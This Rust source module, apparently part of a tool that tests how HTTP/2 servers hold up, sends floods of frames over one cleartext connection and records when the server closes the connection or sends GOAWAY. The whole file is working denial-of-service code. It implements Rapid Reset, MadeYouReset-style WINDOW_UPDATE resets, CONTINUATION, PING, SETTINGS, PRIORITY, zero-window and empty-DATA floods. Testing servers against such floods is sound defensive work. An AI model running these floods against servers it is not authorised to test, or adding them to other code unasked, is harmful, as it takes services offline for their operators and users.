//! Floods of HTTP/2 frames over one connection in clear text.

use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use crate::frames::{Kind, PREFACE, Reader, frame, headers, request};
use crate::{Arguments, Mode, Values};

/// Frames that are sent at once.
const BATCH: u64 = 100;

/// How long a flood waits when the peer has no room for more.
const PAUSE: Duration = Duration::from_micros(200);

#[derive(Debug)]
struct Flood<'arguments> {
    arguments: &'arguments Arguments,
    block: Vec<u8>,
    stream_number: u32,
    frames: u64,
}

pub(crate) fn run(arguments: &Arguments) -> io::Result<Values> {
    let post = arguments.mode == Mode::EmptyData;
    let block = request(post, &arguments.host, &arguments.path);
    let mut flood = Flood { arguments, block, stream_number: 1, frames: 0 };
    let stream = TcpStream::connect(arguments.address)?;
    stream.set_nonblocking(true)?;
    let mut peer = Peer { stream, reader: Reader::default(), sent: 0, goaway: None, goaway_after: None };
    let began = Instant::now();
    let until = began + Duration::from_secs_f64(arguments.seconds);
    let mut output = flood.start();
    let mut closed_after = None;
    while Instant::now() < until {
        if output.is_empty() {
            flood.batch(&mut output);
        }
        if peer.exchange(&mut output, began).is_err() {
            closed_after = Some(began.elapsed());
            break;
        }
    }
    let millis = |time: Option<Duration>| time.map_or(-1.0, |time| time.as_secs_f64() * 1000.0);
    Ok(vec![
        ("closed".to_owned(), f64::from(u8::from(closed_after.is_some()))),
        ("closed_after_ms".to_owned(), millis(closed_after)),
        ("goaway_after_ms".to_owned(), millis(peer.goaway_after)),
        ("goaway_code".to_owned(), peer.goaway.map_or(-1.0, f64::from)),
        ("frames".to_owned(), flood.frames as f64),
        ("bytes".to_owned(), peer.sent as f64),
    ])
}

impl Flood<'_> {
    /// The preface, settings, and the stream that a flood is about.
    fn start(&mut self) -> Vec<u8> {
        let mut out = PREFACE.to_vec();
        // Setting 4 is the window of a stream.
        let zero: &[u8] = &[0, 4, 0, 0, 0, 0];
        let settings = if self.arguments.mode == Mode::ZeroWindow { zero } else { &[] };
        frame(&mut out, Kind::Settings, 0, 0, settings);
        match self.arguments.mode {
            Mode::EmptyData => headers(&mut out, 1, true, &self.block),
            Mode::Continuation => frame(&mut out, Kind::Headers, 1, 1, &self.block),
            _ => {}
        }
        out
    }

    fn batch(&mut self, out: &mut Vec<u8>) {
        for _ in 0..BATCH {
            self.next(out);
            self.frames += 1;
        }
    }

    /// Appends the next frame of the flood, or two that belong together.
    fn next(&mut self, out: &mut Vec<u8>) {
        match self.arguments.mode {
            Mode::RapidReset => {
                let stream = self.open(out);
                frame(out, Kind::Reset, 0, stream, &8_u32.to_be_bytes());
            }
            Mode::MadeYouReset => {
                let stream = self.open(out);
                frame(out, Kind::WindowUpdate, 0, stream, &[0; 4]);
            }
            Mode::ZeroWindow => {
                self.open(out);
            }
            Mode::Ping => frame(out, Kind::Ping, 0, 0, &[7; 8]),
            Mode::Settings => frame(out, Kind::Settings, 0, 0, &[]),
            Mode::EmptyData => frame(out, Kind::Data, 0, 1, &[]),
            // A literal header that is not indexed: "x: yy...".
            Mode::Continuation => {
                let field = [&[0, 1, b'x', 100][..], &[b'y'; 100]].concat();
                frame(out, Kind::Continuation, 0, 1, &field);
            }
            Mode::WindowUpdate => frame(out, Kind::WindowUpdate, 0, 0, &1_u32.to_be_bytes()),
            Mode::Priority => frame(out, Kind::Priority, 0, 1, &[0, 0, 0, 3, 7]),
            Mode::Idle | Mode::SlowHead | Mode::SlowBody | Mode::SlowRead => {}
        }
    }

    fn open(&mut self, out: &mut Vec<u8>) -> u32 {
        let stream = self.stream_number;
        self.stream_number += 2;
        headers(out, stream, false, &self.block);
        stream
    }
}

#[derive(Debug)]
struct Peer {
    stream: TcpStream,
    reader: Reader,
    sent: u64,
    goaway: Option<u32>,
    goaway_after: Option<Duration>,
}

impl Peer {
    /// Sends what there is room for and reads what has come; an error when the connection is gone.
    fn exchange(&mut self, output: &mut Vec<u8>, began: Instant) -> io::Result<()> {
        let sent = or_nothing(self.stream.write(output))?;
        output.drain(..sent.unwrap_or(0));
        self.sent += sent.unwrap_or(0) as u64;
        let mut buffer = [0; 16 * 1024];
        let read = or_nothing(self.stream.read(&mut buffer))?;
        if read == Some(0) {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
        let heard = buffer.get(..read.unwrap_or(0)).unwrap_or_default();
        if let Some(code) = self.reader.feed(heard).filter(|_| self.goaway.is_none()) {
            self.goaway = Some(code);
            self.goaway_after = Some(began.elapsed());
        }
        if sent.is_none() && read.is_none() {
            std::thread::sleep(PAUSE);
        }
        Ok(())
    }
}

/// `None` where it would have to wait.
fn or_nothing(done: io::Result<usize>) -> io::Result<Option<usize>> {
    match done {
        Err(error) if error.kind() == io::ErrorKind::WouldBlock => Ok(None),
        other => other.map(Some),
    }
}
